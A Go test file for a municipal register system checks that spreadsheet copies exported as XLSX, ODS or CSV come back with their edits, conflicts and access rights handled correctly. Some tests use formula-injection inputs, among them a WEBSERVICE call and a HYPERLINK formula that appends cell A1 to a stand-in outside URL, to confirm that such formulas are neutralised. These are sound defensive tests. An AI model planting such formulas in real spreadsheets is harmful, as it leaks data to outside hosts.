package ogc_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"spoina/internal/access"
	"spoina/internal/db"
	"spoina/internal/exchange"
	"spoina/internal/register"
	"spoina/internal/register/registertest"
	"spoina/ogc"
)

// back brings a file back and looks at what it would change.
func back(t testing.TB, s *db.Store, name string, file register.ReturnedFile) *register.ChangeSet {
	t.Helper()
	if file.Name == "" {
		file.Name = filepath.Base(file.Path)
	}
	id, err := register.CreateChangeSet(context.Background(), s, access.Operator(), register.Core(), name, file)
	require.NoError(t, err)
	return look(t, s, id, file.Purpose)
}

func look(t testing.TB, s *db.Store, id int64, purpose string) *register.ChangeSet {
	t.Helper()
	var set *register.ChangeSet
	require.NoError(t, s.Read(context.Background(), func(tx pgx.Tx) error {
		r, err := register.NewReader(context.Background(), s, tx, access.Operator())
		if err != nil {
			return err
		}
		r.Purpose = purpose
		set, err = r.Review(register.Core(), id, 0, 500)
		return err
	}))
	return set
}

// saved edits a workbook as a person does, by heading and row number.
type saved struct {
	t    testing.TB
	path string
	book *excelize.File
	name string
}

func opened(t testing.TB, path string) *saved {
	book, err := excelize.OpenFile(path)
	require.NoError(t, err)
	return &saved{t, path, book, book.GetSheetName(0)}
}

func (s *saved) at(id int64, heading string) string {
	rows, err := s.book.GetRows(s.name, excelize.Options{RawCellValue: true})
	require.NoError(s.t, err)
	for c, h := range rows[0] {
		for r := range rows {
			if h == heading && len(rows[r]) > 0 && rows[r][0] == fmt.Sprint(id) {
				cell, err := excelize.CoordinatesToCellName(c+1, r+1)
				require.NoError(s.t, err)
				return cell
			}
		}
	}
	s.t.Fatalf("no %s in row %d", heading, id)
	return ""
}

func (s *saved) set(id int64, heading string, value any) {
	require.NoError(s.t, s.book.SetCellValue(s.name, s.at(id, heading), value))
}

func (s *saved) save() {
	require.NoError(s.t, s.book.SaveAs(s.path))
	require.NoError(s.t, s.book.Close())
}

func value(t testing.TB, s *db.Store, sql string) (out string) {
	t.Helper()
	require.NoError(t, s.Pool().QueryRow(context.Background(), sql).Scan(&out))
	return out
}

func cellOf(t testing.TB, set *register.ChangeSet, id int64, field string) (register.ChangeSetRow, register.ChangeSetCell) {
	t.Helper()
	for _, row := range set.Rows {
		for _, c := range row.Cells {
			if row.ID == id && c.Field == field {
				return row, c
			}
		}
	}
	t.Fatalf("no %s of %d in %+v", field, id, set.Rows)
	return register.ChangeSetRow{}, register.ChangeSetCell{}
}

func colleague(t testing.TB, s *db.Store, name string, id int64, field, value string) {
	t.Helper()
	_, err := register.Apply(context.Background(), s, access.System("ewa"), register.Core(), name, "", []register.Edit{{Op: register.SetCells, ID: id, Set: map[string]json.RawMessage{field: json.RawMessage(value)}}})
	require.NoError(t, err)
}

// A round-tripped XLSX with three edits and one conflict.
func TestARoundTrippedXLSXWithThreeEditsAndOneConflict(t *testing.T) {
	s := town(t, 20)
	path, receipt := export(t, s, ogc.Order{Collection: "decisions", Format: "xlsx", Lang: "pl"})

	// A colleague at the desk, meanwhile.
	colleague(t, s, "decisions", 4000004, "street", `"Żabia"`)
	colleague(t, s, "decisions", 4000005, "street", `"Żabia"`)

	// Somebody with Excel.
	book := opened(t, path)
	book.set(4000001, "Opłata [zł]", 1465.2)
	book.set(4000002, "Termin płatności", "31.12.2026")
	book.set(4000003, "Ulica", "Źródlana")
	book.set(4000004, "Ulica", "Grunwaldzka")
	book.set(4000005, "Ulica", "Żabia") // the same as the colleague
	book.save()

	set := back(t, s, "decisions", register.ReturnedFile{Path: path})
	require.Equal(t, receipt.Revision, set.BaseRevision)
	require.Greater(t, set.Revision, set.BaseRevision)
	require.Equal(t, register.ChangeCounts{Edits: 3, Conflicts: 1, Done: 1}, set.Counts)
	_, fee := cellOf(t, set, 4000001, "fee_declared_gr")
	require.Equal(t, "edit", fee.Status)
	require.JSONEq(t, "1000", string(fee.Base))
	require.JSONEq(t, "146520", string(fee.File), "złote in the sheet, grosze in the register")
	_, due := cellOf(t, set, 4000002, "due_date")
	require.JSONEq(t, `"2026-12-31"`, string(due.File))
	row, street := cellOf(t, set, 4000004, "street")
	require.Equal(t, "conflict", street.Status)
	require.JSONEq(t, `"Łąkowa"`, string(street.Base))
	require.JSONEq(t, `"Grunwaldzka"`, string(street.File))
	require.JSONEq(t, `"Żabia"`, string(street.Now))
	require.Equal(t, "ewa", street.Who)
	require.NotNil(t, street.At)

	ctx := context.Background()
	apply := func(a register.Acceptance) (register.Result, error) {
		return register.ApplyChangeSet(ctx, s, access.Operator(), register.Core(), set.ID, a)
	}
	key := fmt.Sprintf("%d.street", row.No)
	_, err := apply(register.Acceptance{Cells: []string{key}})
	require.ErrorIs(t, err, register.ErrChangeSetMoved, "a conflict is decided, not accepted with the rest")
	result, err := apply(register.Acceptance{All: true, More: true})
	require.NoError(t, err)
	require.Len(t, result.Rows, 3)
	require.Equal(t, "146520|2026-12-31|Źródlana|Żabia", value(t, s, `SELECT string_agg(v, '|' ORDER BY id) FROM (SELECT id, CASE id WHEN 4000001 THEN fee_declared_gr::text WHEN 4000002 THEN due_date::text ELSE street END AS v
		FROM decisions WHERE id BETWEEN 4000001 AND 4000004) u`))

	// The conflict is decided for the file, but not over a change that nobody looked at.
	again := look(t, s, set.ID, "")
	require.Equal(t, register.ChangeCounts{Conflicts: 1, Done: 4}, again.Counts)
	colleague(t, s, "decisions", 4000004, "notes", `"w międzyczasie"`)
	_, err = apply(register.Acceptance{Mine: []string{key}, Seen: again.Revision})
	require.ErrorIs(t, err, register.ErrChangeSetMoved)
	again = look(t, s, set.ID, "")
	result, err = apply(register.Acceptance{Mine: []string{key}, Seen: again.Revision})
	require.NoError(t, err)
	require.Equal(t, "Grunwaldzka", value(t, s, `SELECT street FROM decisions WHERE id = 4000004`))
	again = look(t, s, set.ID, "")
	require.Equal(t, "applied", again.State)
	require.Equal(t, result.Revision, again.Revision)
	require.Equal(t, "0", value(t, s, `SELECT count(*)::text FROM change_set_rows`), "nothing of a file is left when it is applied")
	_, err = apply(register.Acceptance{All: true})
	require.ErrorIs(t, err, register.ErrChangeSetState, "a second click applies nothing twice")

	// It can be undone like any other change.
	_, err = register.Undo(ctx, s, access.Operator(), register.Core(), "decisions", result.Revision)
	require.NoError(t, err)
	require.Equal(t, "Żabia", value(t, s, `SELECT street FROM decisions WHERE id = 4000004`))
}

// Without an edit there is nothing to look at, in every register, language and format.
func TestAnUneditedCopyChangesNothing(t *testing.T) {
	s := town(t, 30)
	for _, name := range []string{"parcels", "road_lanes", "address_points", "decisions", "leases", "rates", "parties"} {
		for _, format := range []string{"xlsx", "ods", "csv"} {
			for _, lang := range []string{"pl", "en", ""} {
				for _, purpose := range []string{"", "case"} {
					path, receipt := export(t, s, ogc.Order{Collection: name, Format: format, Lang: lang, Purpose: purpose, Comma: lang == "pl"})
					set := back(t, s, name, register.ReturnedFile{Path: path, Revision: &receipt.Revision, Purpose: purpose})
					require.Equal(t, register.ChangeCounts{}, set.Counts, "%s as %s, %q, %q: %+v", name, format, lang, purpose, set.Rows)
					require.EqualValues(t, receipt.Count, set.Read)
				}
			}
		}
	}
}

// What people and spreadsheets do to a copy: sort, insert, delete, hide, move and rename columns, retype dates, drop zeros.
func TestWhatSpreadsheetsDoToACopy(t *testing.T) {
	s := town(t, 20)
	path, _ := export(t, s, ogc.Order{Collection: "decisions", Format: "xlsx", Lang: "pl", Columns: []string{"case_number", "street", "valid_from", "area_m2", "house_no", "fee_declared_gr", "open_ended", "version"}})
	rewrite := func(change func(rows [][]any) [][]any) string {
		book, err := excelize.OpenFile(path)
		require.NoError(t, err)
		defer book.Close()
		name := book.GetSheetName(0)
		texts, err := book.GetRows(name, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		var rows [][]any
		for _, r := range texts {
			row := make([]any, len(r))
			for i, v := range r {
				row[i] = v
			}
			rows = append(rows, row)
		}
		require.NoError(t, book.SetSheetVisible("_spoina", true))
		require.NoError(t, book.DeleteSheet(name))
		_, err = book.NewSheet("Arkusz1")
		require.NoError(t, err)
		for i, row := range change(rows) {
			require.NoError(t, book.SetSheetRow("Arkusz1", fmt.Sprintf("A%d", i+1), &row))
		}
		out := filepath.Join(t.TempDir(), "copy.xlsx")
		require.NoError(t, book.SaveAs(out))
		return out
	}
	t.Run("resaved as text without formats", func(t *testing.T) {
		set := back(t, s, "decisions", register.ReturnedFile{Path: rewrite(func(rows [][]any) [][]any { return rows })})
		require.Equal(t, register.ChangeCounts{}, set.Counts, "%+v", set.Rows)
	})
	t.Run("titles above, rows sorted, columns moved and left out", func(t *testing.T) {
		set := back(t, s, "decisions", register.ReturnedFile{Path: rewrite(func(rows [][]any) [][]any {
			out := [][]any{{"Decyzje do sprawdzenia"}, {}}
			for i := range rows {
				k := i
				if i > 0 {
					k = len(rows) - i
				}
				r := rows[k]
				out = append(out, []any{r[2], r[4], r[0], r[1]})
			}
			return out
		})})
		require.Equal(t, register.ChangeCounts{}, set.Counts, "%+v", set.Rows)
	})
	t.Run("a renamed heading", func(t *testing.T) {
		set := back(t, s, "decisions", register.ReturnedFile{Path: rewrite(func(rows [][]any) [][]any {
			rows[0][2] = "Gdzie to jest"
			rows[1][2] = "Nowa"
			return rows
		})})
		require.Equal(t, register.ChangeCounts{Edits: 1}, set.Counts, "%+v", set.Rows)
		require.Equal(t, "column.renamed", set.Remarks[0].Code)
	})
	t.Run("rows added, deleted, doubled and made up; a foreign column", func(t *testing.T) {
		set := back(t, s, "decisions", register.ReturnedFile{Path: rewrite(func(rows [][]any) [][]any {
			rows[0] = append(rows[0], "Uwagi kolegi")
			rows[1] = append(rows[1], "sprawdzić")
			rows = append(rows[:3], rows[4:]...)
			return append(rows, []any{"", "ZDiZ.99.2022", "Nowa", "2026-01-01", "2,5"}, rows[2], []any{999, "x"}, []any{"abc", "x"}, []any{}, []any{"", "", "", "", ""}, []any{"", "Razem", "", "", "99"})
		})})
		require.Equal(t, register.ChangeCounts{New: 1, Missing: 1, Twice: 1, Unknown: 2}, set.Counts, "%+v", set.Rows)
		require.Equal(t, "Uwagi kolegi", set.Remarks[0].Value)
		// A missing row is a question: all takes it not, and who says so sends it to the bin.
		_, err := register.ApplyChangeSet(context.Background(), s, access.Operator(), register.Core(), set.ID, register.Acceptance{All: true, More: true})
		require.NoError(t, err)
		require.Equal(t, "13", value(t, s, `SELECT count(*)::text FROM decisions`))
		require.Equal(t, "2.5000", value(t, s, `SELECT area_m2::text FROM decisions WHERE case_number = 'ZDiZ.99.2022'`))
		for _, row := range set.Rows {
			if row.Kind == "missing" {
				_, err = register.ApplyChangeSet(context.Background(), s, access.Operator(), register.Core(), set.ID, register.Acceptance{Delete: []int{row.No}, Seen: set.Revision})
				require.NoError(t, err)
			}
		}
		require.Equal(t, "12", value(t, s, `SELECT count(*)::text FROM decisions`))
	})
	t.Run("cells that cannot be read say why", func(t *testing.T) {
		set := back(t, s, "decisions", register.ReturnedFile{Path: rewrite(func(rows [][]any) [][]any {
			rows[1][3] = "31.06.2024"
			rows[2][4] = "duża"
			rows[4][6] = 12.345
			rows[5][7] = "może"
			rows[6][2] = "#N/A"
			return rows
		})})
		require.Equal(t, 5, set.Counts.Errors, "%+v", set.Rows)
		require.Zero(t, set.Counts.Edits)
		for _, row := range set.Rows {
			for _, c := range row.Cells {
				require.NotEmpty(t, c.Message)
				require.NotEmpty(t, c.Code)
				require.NotZero(t, row.Line)
			}
		}
	})
	t.Run("the hidden sheet was lost", func(t *testing.T) {
		bare := rewrite(func(rows [][]any) [][]any { rows[1][2] = "Nowa"; return rows })
		book, err := excelize.OpenFile(bare)
		require.NoError(t, err)
		require.NoError(t, book.DeleteSheet("_spoina"))
		require.NoError(t, book.Save())
		book.Close()
		_, err = register.CreateChangeSet(context.Background(), s, access.Operator(), register.Core(), "decisions", register.ReturnedFile{Path: bare, Name: "x.xlsx"})
		require.ErrorIs(t, err, register.ErrChangeSetRevision, "a person is asked")
		var revision int64
		require.NoError(t, s.Read(context.Background(), func(tx pgx.Tx) (err error) {
			revision, err = db.CurrentRevision(context.Background(), tx)
			return err
		}))
		set := back(t, s, "decisions", register.ReturnedFile{Path: bare, Revision: &revision})
		require.Equal(t, 1, set.Counts.Edits, "%+v", set.Rows)
		require.Zero(t, set.Counts.Missing)
	})
}

// Texts that look like formulas, numbers, dates and booleans survive the way out and back, and edits of them too.
func TestDifficultTextsComeBack(t *testing.T) {
	s := town(t, 1)
	texts := append([]string{"0012", "1.50", "TRUE", "prawda", "2024-01-02", "1e5", "12,50", "zażółć gęślą jaźń", "🙂", "_x000D_", "a  b", "x;y", "a|b", "#N/A"}, smuggled...)
	registertest.Change(t, s, "strangers", `INSERT INTO decisions (id, key, case_number, purpose_text, known) SELECT 7000000 + n, 's' || n, 'S.' || n, t, int8range({rev}, NULL)
		FROM unnest(ARRAY[`+literals(texts)+`]) WITH ORDINALITY u (t, n)`)
	for _, format := range []string{"xlsx", "ods", "csv"} {
		path, receipt := export(t, s, ogc.Order{Collection: "decisions", Format: format, Lang: "pl", Filter: "case_number LIKE 'S.%'"})
		set := back(t, s, "decisions", register.ReturnedFile{Path: path, Revision: &receipt.Revision})
		require.Equal(t, register.ChangeCounts{}, set.Counts, "%s: %+v", format, set.Rows)
	}
	path, _ := export(t, s, ogc.Order{Collection: "decisions", Format: "xlsx", Lang: "pl", Filter: "case_number LIKE 'S.%'", Columns: []string{"purpose_text"}})
	book := opened(t, path)
	book.set(7000001, "Cel", "=2+2")
	require.NoError(t, book.book.SetCellFormula(book.name, book.at(7000002, "Cel"), "=WEBSERVICE(\"http://x\")"))
	require.NoError(t, book.book.SetCellFormula(book.name, book.at(7000003, "Cel"), "=1+1"))
	book.save()
	set := back(t, s, "decisions", register.ReturnedFile{Path: path})
	require.Equal(t, register.ChangeCounts{Edits: 1, Errors: 2}, set.Counts, "%+v", set.Rows)
	_, cell := cellOf(t, set, 7000003, "purpose_text")
	require.Equal(t, "cell_formula", cell.Code)
	require.Contains(t, fmt.Sprint(set.Remarks), "cell.formula")
	_, cell = cellOf(t, set, 7000001, "purpose_text")
	require.JSONEq(t, `"=2+2"`, string(cell.File), "a text stays a text")
}

// Nobody but its maker sees a change set, and whoever may not change a register brings nothing back.
func TestAChangeSetIsItsMakersOwn(t *testing.T) {
	s := town(t, 20)
	ctx := context.Background()
	path, _ := export(t, s, ogc.Order{Collection: "decisions", Format: "xlsx", Lang: "pl"})
	set := back(t, s, "decisions", register.ReturnedFile{Path: path})
	other := access.System("ewa")
	_, err := register.ApplyChangeSet(ctx, s, other, register.Core(), set.ID, register.Acceptance{All: true})
	require.ErrorIs(t, err, register.ErrChangeSet)
	require.ErrorIs(t, register.DiscardChangeSet(ctx, s, other, set.ID), register.ErrChangeSet)
	require.NoError(t, s.Read(ctx, func(tx pgx.Tx) error {
		r, err := register.NewReader(ctx, s, tx, other)
		require.NoError(t, err)
		_, err = r.Review(register.Core(), set.ID, 0, 10)
		require.ErrorIs(t, err, register.ErrChangeSet)
		list, err := r.ChangeSets("")
		require.Empty(t, list)
		return err
	}))
	_, err = register.CreateChangeSet(ctx, s, access.Scope{}, register.Core(), "decisions", register.ReturnedFile{Path: path, Name: "x.xlsx"})
	require.ErrorIs(t, err, access.ErrSignIn)
	_, err = register.CreateChangeSet(ctx, s, access.Operator(), register.Core(), "discrepancies", register.ReturnedFile{Path: path, Name: "x.xlsx"})
	require.Error(t, err)
	_, err = register.CreateChangeSet(ctx, s, access.Operator(), register.Core(), "leases", register.ReturnedFile{Path: path, Name: "x.xlsx"})
	require.ErrorIs(t, err, register.ErrChangeSetRegister)
	require.NoError(t, register.DiscardChangeSet(ctx, s, access.Operator(), set.ID))
	require.ErrorIs(t, register.DiscardChangeSet(ctx, s, access.Operator(), set.ID), register.ErrChangeSetState)
}

// A row that somebody deleted meanwhile is not brought back by an edit of its copy.
func TestAnEditOfADeletedRowIsAConflict(t *testing.T) {
	s := town(t, 1)
	ctx := context.Background()
	path, _ := export(t, s, ogc.Order{Collection: "decisions", Format: "xlsx", Lang: "pl"})
	_, err := register.Apply(ctx, s, access.System("ewa"), register.Core(), "decisions", "", []register.Edit{{Op: register.Delete, ID: 4000003}})
	require.NoError(t, err)
	book := opened(t, path)
	book.set(4000003, "Ulica", "Wąska")
	book.save()
	set := back(t, s, "decisions", register.ReturnedFile{Path: path})
	require.Equal(t, register.ChangeCounts{Conflicts: 1, Gone: 1}, set.Counts)
	_, cell := cellOf(t, set, 4000003, "street")
	require.Equal(t, "ewa", cell.Who)
	_, err = register.ApplyChangeSet(ctx, s, access.Operator(), register.Core(), set.ID, register.Acceptance{All: true, More: true})
	require.NoError(t, err)
	_, err = register.ApplyChangeSet(ctx, s, access.Operator(), register.Core(), set.ID, register.Acceptance{Mine: []string{fmt.Sprintf("%d.street", set.Rows[0].No)}})
	require.ErrorIs(t, err, register.ErrChangeSetMoved)
	require.Equal(t, "0", value(t, s, `SELECT count(*)::text FROM decisions WHERE id = 4000003`))
}

// Officers' own fields leave and come back like columns.
func TestOfficersFieldsComeBack(t *testing.T) {
	s := town(t, 1)
	ctx := context.Background()
	kind, personal := "money", false
	title := register.Text{PL: "Kaucja", EN: "Deposit"}
	reason := "kaucje prowadzono w arkuszu"
	seconds := 5.0
	field, err := register.AddField(ctx, s, access.Operator(), register.Core(), "decisions", register.FieldChange{Type: &kind, Title: &title, Personal: &personal, Reason: &reason, Seconds: &seconds})
	require.NoError(t, err)
	name := field.Field
	colleague(t, s, "decisions", 4000001, name, `"1 465,20"`)
	for _, format := range []string{"xlsx", "ods", "csv"} {
		path, receipt := export(t, s, ogc.Order{Collection: "decisions", Format: format, Lang: "pl", Columns: []string{"case_number", name}, Sort: "id"})
		rows := table(t, path, ';')
		require.Equal(t, []string{"Spoina nr", "Znak sprawy", "Kaucja [zł]"}, rows[0])
		require.Equal(t, "1465.2", strings.ReplaceAll(rows[1][2], ",", "."))
		verdict(t, path, receipt)
	}
	path, _ := export(t, s, ogc.Order{Collection: "decisions", Format: "xlsx", Lang: "pl", Columns: []string{"case_number", name}})
	book := opened(t, path)
	book.set(4000002, "Kaucja [zł]", 99.9)
	book.save()
	set := back(t, s, "decisions", register.ReturnedFile{Path: path})
	require.Equal(t, register.ChangeCounts{Edits: 1}, set.Counts, shown(set))
	_, err = register.ApplyChangeSet(ctx, s, access.Operator(), register.Core(), set.ID, register.Acceptance{All: true})
	require.NoError(t, err)
	path, _ = export(t, s, ogc.Order{Collection: "decisions", Format: "csv", Lang: "pl", Columns: []string{name}, Sort: "id"})
	require.Equal(t, "99.9", table(t, path, ';')[2][1])
}

// TestNoHeadingIsAFormula: a title of an own field is guarded like a cell, and is known again when the copy comes back.
func TestNoHeadingIsAFormula(t *testing.T) {
	s := town(t, 1)
	ctx := context.Background()
	kind, reason := "string", "proba"
	title := register.Text{PL: `=HYPERLINK("http://x.example/?a,b,c,d"&A1,"Kliknij")`, EN: "@SUM(A1)"}
	field, err := register.AddField(ctx, s, access.Operator(), register.Core(), "decisions", register.FieldChange{Type: &kind, Title: &title, Reason: &reason})
	require.NoError(t, err)
	colleague(t, s, "decisions", 4000001, field.Field, `"głos"`)
	for _, format := range []string{"csv", "xlsx", "ods"} {
		for _, lang := range []string{"pl", "en"} {
			path, receipt := export(t, s, ogc.Order{Collection: "decisions", Format: format, Lang: lang, Columns: []string{field.Field, "street"}, Sort: "id"})
			want := title.PL
			if lang == "en" {
				want = title.EN
			}
			if format == "csv" {
				want = "'" + want
			}
			require.Equal(t, want, table(t, path, ';')[0][1])
			verdict(t, path, receipt)
			if format == "xlsx" {
				book := opened(t, path)
				formula, err := book.book.GetCellFormula(book.name, "B1")
				require.NoError(t, err)
				require.Empty(t, formula)
			}
			file := register.ReturnedFile{Path: path}
			if format == "csv" {
				body, err := os.ReadFile(path)
				require.NoError(t, err)
				require.NoError(t, os.WriteFile(path, bytes.Replace(body, []byte("głos"), []byte("inny"), 1), 0o600))
				file.Revision = &receipt.Revision
			}
			set := back(t, s, "decisions", file)
			for _, remark := range set.Remarks {
				require.Equal(t, exchange.FileBare, remark.Code, "%v", remark)
			}
			if format == "csv" {
				require.Equal(t, register.ChangeCounts{Edits: 1}, set.Counts, shown(set))
			}
		}
	}
}

// A copy that a colleague with more rights made shows and changes nothing that its bringer may not see.
func TestACopyGivesNoRights(t *testing.T) {
	s := town(t, 1)
	ctx := context.Background()
	path, receipt := export(t, s, ogc.Order{Collection: "decisions", Format: "xlsx", Lang: "pl", Purpose: "case"})
	book := opened(t, path)
	for _, id := range []int64{4000001, 4000002} { // WORKS and ADVERT
		book.set(id, "Opłata [zł]", 1)
		book.set(id, "Ulica", "Wąska")
		book.set(id, "Strona", "Jan Nowak")
	}
	book.set(4000004, "Wersja", 99)
	book.save()
	role := access.Role{Name: "adverts", Registers: map[string]access.Rights{"decisions": {Edit: true, Hide: []string{"fee_declared_gr"}, Only: map[string][]string{"kind": {"ADVERT"}}}}}
	clerk := access.For(access.Person{ID: 9, Login: "zofia", Grants: []access.Grant{{Role: role}}})
	id, err := register.CreateChangeSet(ctx, s, clerk, register.Core(), "decisions", register.ReturnedFile{Path: path, Name: "x.xlsx"})
	require.NoError(t, err)
	require.NoError(t, s.Read(ctx, func(tx pgx.Tx) error {
		r, err := register.NewReader(ctx, s, tx, clerk)
		require.NoError(t, err)
		set, err := r.Review(register.Core(), id, 0, 100)
		require.NoError(t, err)
		require.Equal(t, register.ChangeCounts{Edits: 1, Unknown: int(receipt.Count) - 6}, set.Counts, shown(set))
		cellOf(t, set, 4000002, "street")
		body, err := json.Marshal(set)
		require.NotContains(t, string(body), "Nowak")
		require.NotContains(t, string(body), "Kowalski")
		require.NotContains(t, string(body), "fee_declared_gr")
		return err
	}))
	_, err = register.ApplyChangeSet(ctx, s, clerk, register.Core(), id, register.Acceptance{All: true})
	require.NoError(t, err)
	require.Equal(t, "Łąkowa 1000|Wąska 2000", value(t, s, `SELECT string_agg(street || ' ' || fee_declared_gr, '|' ORDER BY id) FROM decisions WHERE id IN (4000001, 4000002)`))

	reader := access.For(access.Person{ID: 9, Login: "piotr", Grants: []access.Grant{{Role: access.Role{Name: "r", Registers: map[string]access.Rights{"decisions": {Hide: []string{"fee_declared_gr"}, Only: map[string][]string{"kind": {"ADVERT"}}}}}}}})
	_, err = register.CreateChangeSet(ctx, s, reader, register.Core(), "decisions", register.ReturnedFile{Path: path, Name: "x.xlsx"})
	require.ErrorIs(t, err, access.ErrRefused)
	// What leaves obeys the same rule.
	out := filepath.Join(t.TempDir(), "x.csv")
	got, err := ogc.Export(ctx, s, reader, register.Core(), ogc.Order{Collection: "decisions", Format: "csv", Lang: "pl"}, out)
	require.NoError(t, err)
	require.EqualValues(t, 6, got.Count)
	require.NotContains(t, fmt.Sprint(table(t, out, ';')[0]), "Opłata")
	_, err = ogc.Export(ctx, s, reader, register.Core(), ogc.Order{Collection: "decisions", Format: "csv", Columns: []string{"fee_declared_gr"}}, out)
	require.ErrorIs(t, err, register.ErrColumn)
	_, err = ogc.Export(ctx, s, reader, register.Core(), ogc.Order{Collection: "leases", Format: "csv"}, out)
	require.ErrorIs(t, err, access.ErrRefused)
}
